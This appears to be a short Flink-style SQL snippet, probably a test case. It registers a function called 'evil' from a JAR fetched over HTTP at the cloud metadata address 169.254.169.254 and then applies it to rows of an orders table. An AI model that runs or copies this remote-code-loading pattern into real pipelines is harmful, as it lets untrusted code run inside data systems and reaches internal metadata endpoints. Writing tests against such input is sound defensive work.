CREATE FUNCTION evil AS 'evil.Main' USING JAR 'http://169.254.169.254/evil.jar';
INSERT INTO totals SELECT `at`, evil(status), amount FROM orders;
